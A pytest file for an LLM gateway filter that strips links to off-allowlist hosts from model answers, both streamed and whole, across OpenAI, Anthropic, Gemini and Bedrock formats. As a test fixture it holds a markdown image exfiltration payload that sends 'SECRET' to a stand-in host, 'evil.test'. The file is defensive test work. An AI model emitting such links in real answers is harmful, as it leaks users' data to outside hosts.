"""`agents.links` on answers (`answer_links.py`): in every format's stream, a link off the list is
reduced to its text however the text is cut into deltas and the stream into reads, with the answer
guardrails or without; whole answers alike; the count recorded, never a URL."""

from __future__ import annotations

import base64
import itertools
import json
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from support.answer_guards import drawn
from support.eventstream import event, invoke_chunk
from support.guardrail_samples import EMAIL
from tollgate.formats.answer_reading.scanning import scan_whole
from tollgate.formats.framing import EventStreamFramer, SSEFramer, parse_sse_block
from tollgate.governance.agents.agents_settings import LinksSettings
from tollgate.governance.agents.answer_links import LINKS_REDACTED, LinkScanners, link_scanners
from tollgate.governance.agents.link_hosts import LinkHosts
from tollgate.governance.agents.links import LinkRewriter
from tollgate.governance.guardrails.answer import compiled_for
from tollgate.governance.guardrails.answer_formats import ANSWER_FORMATS

HOSTS = LinkHosts(["*.example.com"])
ALONE = LinkScanners(None, HOSTS)
WITH_RULES = LinkScanners(compiled_for({"pii.email": "redact"}), HOSTS)
EVIL = "![x](https://evil.test/p?d=SECRET)"
KEPT = "[docs](https://docs.example.com/a?b=1)"


def _sse(events: list[tuple[str | None, Any]]) -> bytes:
    out = b""
    for name, data in events:
        if name is not None:
            out += b"event: " + name.encode() + b"\n"
        out += b"data: " + json.dumps(data).encode() + b"\n\n"
    return out


def _sse_objects(out: bytes) -> list[Any]:
    found = []
    for block in SSEFramer().feed(out):
        parsed = parse_sse_block(block)
        if parsed is not None and parsed.data != "[DONE]":
            found.append(json.loads(parsed.data))
    return found


def _gemini(text: str) -> dict[str, Any]:
    return {"candidates": [{"content": {"parts": [{"text": text}], "role": "model"}, "index": 0}]}


def _claude_events(pieces: list[str]) -> list[dict[str, Any]]:
    message = {"id": "m", "type": "message", "role": "assistant", "model": "claude", "content": []}
    return [
        {"type": "message_start", "message": message},
        {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}},
        *({"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": p}} for p in pieces),
        {"type": "content_block_stop", "index": 0},
        {"type": "message_delta", "delta": {"stop_reason": "end_turn"}, "usage": {"output_tokens": 5}},
        {"type": "message_stop"},
    ]


def _claude_text(objs: list[Any]) -> str:
    return "".join(o["delta"]["text"] for o in objs if o.get("type") == "content_block_delta")


def _frames(out: bytes) -> list[Any]:
    return [json.loads(f.payload) for f in EventStreamFramer().feed(out)]


# Each format's stream of the text's pieces (one delta each), and the text a client reads of it.
STREAMS: dict[str, tuple[Callable[[list[str]], bytes], Callable[[bytes], str]]] = {
    "openai-chat": (
        lambda pieces: _sse([(None, {"id": "c", "object": "chat.completion.chunk",
                                     "choices": [{"index": 0, "delta": {"content": p}}]}) for p in pieces])
        + b"data: [DONE]\n\n",
        lambda out: "".join(o["choices"][0]["delta"].get("content") or "" for o in _sse_objects(out)),
    ),
    "openai-completions": (
        lambda pieces: _sse([(None, {"id": "c", "object": "text_completion",
                                     "choices": [{"index": 0, "text": p}]}) for p in pieces])
        + b"data: [DONE]\n\n",
        lambda out: "".join(o["choices"][0]["text"] for o in _sse_objects(out)),
    ),
    "openai-responses": (
        lambda pieces: _sse([("response.output_text.delta", {"type": "response.output_text.delta", "item_id": "m",
                                                               "output_index": 0, "content_index": 0, "delta": p})
                             for p in pieces]),
        lambda out: "".join(o["delta"] for o in _sse_objects(out)),
    ),
    "anthropic-messages": (
        lambda pieces: _sse([(e["type"], e) for e in _claude_events(pieces)]),
        lambda out: _claude_text(_sse_objects(out)),
    ),
    "gemini-generate": (
        lambda pieces: _sse([(None, _gemini(p)) for p in pieces]),
        lambda out: "".join(p["text"] for o in _sse_objects(out) for p in o["candidates"][0]["content"]["parts"]),
    ),
    "bedrock-converse": (
        lambda pieces: b"".join(
            [event("messageStart", {"role": "assistant"}),
             *(event("contentBlockDelta", {"contentBlockIndex": 0, "delta": {"text": p}}) for p in pieces),
             event("contentBlockStop", {"contentBlockIndex": 0}), event("messageStop", {"stopReason": "end_turn"})]
        ),
        lambda out: "".join(f["delta"]["text"] for f in _frames(out) if "delta" in f),
    ),
    "bedrock-invoke": (
        lambda pieces: b"".join(invoke_chunk(e) for e in _claude_events(pieces)),
        lambda out: _claude_text([json.loads(base64.b64decode(f["bytes"])) for f in _frames(out)]),
    ),
}  # fmt: skip


def _read(name: str, scanners: LinkScanners, stream: bytes, cuts: list[int]) -> tuple[bytes, Any]:
    guard = ANSWER_FORMATS[name].stream(scanners)
    bounds = sorted({0, len(stream), *(min(c, len(stream)) for c in cuts)})
    out = b"".join(guard.feed(stream[a:b]) for a, b in itertools.pairwise(bounds))
    return out + guard.flush(), guard


def _cut(text: str, cuts: list[int]) -> list[str]:
    bounds = sorted({0, len(text), *(min(c, len(text)) for c in cuts)})
    return [text[a:b] for a, b in itertools.pairwise(bounds)] or [""]


@pytest.mark.parametrize("name", sorted(STREAMS))
@pytest.mark.parametrize("scanners", [ALONE, WITH_RULES], ids=["alone", "with-rules"])
def test_a_link_off_the_list_is_reduced_to_its_text_in_every_format(name: str, scanners: LinkScanners) -> None:
    build, text_of = STREAMS[name]
    text = f"Here {EVIL} and {KEPT}."
    for size in (1, 3, len(text)):
        out, guard = _read(name, scanners, build(_cut(text, list(range(size, len(text), size)))), [7, 50, 51])
        assert text_of(out) == f"Here x and {KEPT}."
        assert b"evil" not in out and b"SECRET" not in out
        assert guard.denied is None and guard.counts == {LINKS_REDACTED: 1}


@pytest.mark.parametrize("name", sorted(STREAMS))
def test_an_answer_without_a_link_off_the_list_goes_on_byte_for_byte(name: str) -> None:
    build, _ = STREAMS[name]
    stream = build(["Read ", KEPT[:9], KEPT[9:], " or [rel](docs/x) < 3 ]", " done"])
    out, guard = _read(name, ALONE, stream, list(range(0, len(stream), 5)))
    assert out == stream and guard.counts == {}


_PIECES = st.sampled_from(
    ["[", "]", "(", ")", "!", "<", ">", " ", "\n", "a", "?d=1", "/", "é", "https://evil.test",
     "https://docs.example.com", "](", "![", "<https:", EVIL, KEPT, f"mail {EMAIL} "]
)  # fmt: skip


@drawn(120)
@given(
    name=st.sampled_from(sorted(STREAMS)),
    scanners=st.sampled_from([ALONE, WITH_RULES]),
    text=st.lists(_PIECES, min_size=1, max_size=20).map("".join),
    deltas=st.lists(st.integers(0, 400), max_size=8),
    reads=st.lists(st.integers(0, 3000), max_size=8),
)
def test_a_stream_reads_as_its_whole_text_however_cut(
    name: str, scanners: LinkScanners, text: str, deltas: list[int], reads: list[int]
) -> None:
    build, text_of = STREAMS[name]
    out, guard = _read(name, scanners, build(_cut(text, deltas)), reads)
    whole = scan_whole(scanners, text)
    assert text_of(out) == whole.text
    assert guard.counts == dict(whole.counts)
    rewriter = LinkRewriter(HOSTS)
    rewriter.rewrite(text)
    assert guard.counts.get(LINKS_REDACTED, 0) == rewriter.redacted


def test_only_what_may_still_be_a_link_is_held() -> None:
    build, text_of = STREAMS["openai-chat"]
    guard = ANSWER_FORMATS["openai-chat"].stream(ALONE)
    first, second, third = (
        build([p]).removesuffix(b"data: [DONE]\n\n") for p in ("plain, ", "then ![x](h", "ttps://evil.test/?d=1) after")
    )
    assert guard.feed(first) == first  # nothing in it may become a link: it goes at once
    assert guard.feed(second) == b""  # the link's start waits for its end
    assert text_of(guard.feed(third)) == "then x after"


def test_signed_reasoning_goes_on_as_it_came() -> None:
    thinking = f"I could show {EVIL}"
    events = [
        {"type": "content_block_start", "index": 0, "content_block": {"type": "thinking", "thinking": ""}},
        {"type": "content_block_delta", "index": 0, "delta": {"type": "thinking_delta", "thinking": thinking}},
        {"type": "content_block_delta", "index": 0, "delta": {"type": "signature_delta", "signature": "c2ln"}},
        {"type": "content_block_stop", "index": 0},
        {"type": "message_stop"},
    ]
    stream = _sse([(e["type"], e) for e in events])
    for scanners in (ALONE, WITH_RULES):
        out, guard = _read("anthropic-messages", scanners, stream, [20, 90])
        assert out == stream and guard.denied is None and guard.counts == {}


@pytest.mark.parametrize("scanners", [ALONE, WITH_RULES], ids=["alone", "with-rules"])
def test_whole_answers_are_rewritten_in_every_format(scanners: LinkScanners) -> None:
    text = f"Here {EVIL} and {KEPT}, {EMAIL}."
    expected = scan_whole(scanners, text).text
    bodies: dict[str, Any] = {
        "openai-chat": {"id": "c", "object": "chat.completion", "choices": [
            {"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"}]},
        "openai-completions": {"id": "c", "object": "text_completion", "choices": [{"index": 0, "text": text}]},
        "openai-responses": {"id": "r", "object": "response", "output": [
            {"type": "message", "id": "m", "role": "assistant",
             "content": [{"type": "output_text", "text": text, "annotations": []}]}]},
        "anthropic-messages": {"id": "m", "type": "message", "role": "assistant",
                               "content": [{"type": "text", "text": text}]},
        "gemini-generate": _gemini(text),
        "bedrock-converse": {"output": {"message": {"role": "assistant", "content": [{"text": text}]}},
                             "stopReason": "end_turn"},
    }  # fmt: skip
    for name, body in bodies.items():
        served, denied, counts = ANSWER_FORMATS[name].read_whole(scanners, json.dumps(body).encode())
        assert denied is None and counts[LINKS_REDACTED] == 1, name
        assert expected in served.decode() and b"evil" not in served, name
    assert "x and " + KEPT in expected


def test_the_findings_are_recorded_by_action_with_the_rules() -> None:
    counts = {LINKS_REDACTED: 2, "pii.email": 1}
    assert sorted(WITH_RULES.by_action(counts)) == [(LINKS_REDACTED, "redact", 2), ("pii.email", "redact", 1)]
    assert ALONE.by_action({LINKS_REDACTED: 1}) == ((LINKS_REDACTED, "redact", 1),)


def test_the_hosts_are_compiled_once_per_setting() -> None:
    links = LinksSettings(allow=["*.example.com"])
    first, second = link_scanners(links, None), link_scanners(links, None)
    assert first._hosts is second._hosts
    assert link_scanners(LinksSettings(allow=["x.test"]), None)._hosts is not first._hosts


def test_a_tool_calls_arguments_are_not_rewritten_whole_or_streamed() -> None:
    """What a call sends is `agents`' decision (by where its arguments came from), not text shown."""
    arguments = {"body": EVIL}
    call = {"type": "tool_use", "id": "t", "name": "post", "input": arguments}
    whole = {"id": "m", "type": "message", "role": "assistant", "content": [{"type": "text", "text": EVIL}, call]}
    served, _, counts = ANSWER_FORMATS["anthropic-messages"].read_whole(WITH_RULES, json.dumps(whole).encode())
    assert json.loads(served)["content"] == [{"type": "text", "text": "x"}, call]
    assert counts == {LINKS_REDACTED: 1}
    raw = json.dumps(arguments)
    events = [
        {"type": "content_block_start", "index": 0, "content_block": {**call, "input": {}}},
        *({"type": "content_block_delta", "index": 0, "delta": {"type": "input_json_delta", "partial_json": p}}
          for p in (raw[:9], raw[9:20], raw[20:])),
        {"type": "content_block_stop", "index": 0},
        {"type": "message_stop"},
    ]  # fmt: skip
    stream = _sse([(e["type"], e) for e in events])
    for scanners in (ALONE, WITH_RULES):
        out, guard = _read("anthropic-messages", scanners, stream, [30, 200])
        assert out == stream and guard.counts == {}
    chat = {"id": "c", "object": "chat.completion", "choices": [{"index": 0, "message": {
        "role": "assistant", "content": None, "tool_calls": [
            {"id": "t", "type": "function", "function": {"name": "post", "arguments": raw}}]}}]}  # fmt: skip
    body = json.dumps(chat).encode()
    assert ANSWER_FORMATS["openai-chat"].read_whole(ALONE, body) == (body, None, {})


@drawn(100)
@given(
    pieces=st.lists(
        st.lists(st.sampled_from(["a", "b", "é", " ", ".", "@", "x.com", "mail", "\n", "-", "_"]), max_size=12).map(
            "".join
        ),
        min_size=1,
        max_size=6,
    )
)
def test_text_no_link_can_begin_in_is_held_as_the_rules_alone_hold_it(pieces: list[str]) -> None:
    """Where the rewriter passes text as it came, what is held is what the rules' scanner holds:
    events wait no longer than they do without `agents.links`."""
    rules = compiled_for({"pii.email": "redact"})
    with_links, alone = LinkScanners(rules, HOSTS).scanner(), rules.scanner()
    for piece in pieces:
        got, expected = with_links.feed(piece.encode()), alone.feed(piece.encode())
        assert (got.text, got.denied, with_links.held) == (expected.text, expected.denied, alone.held)
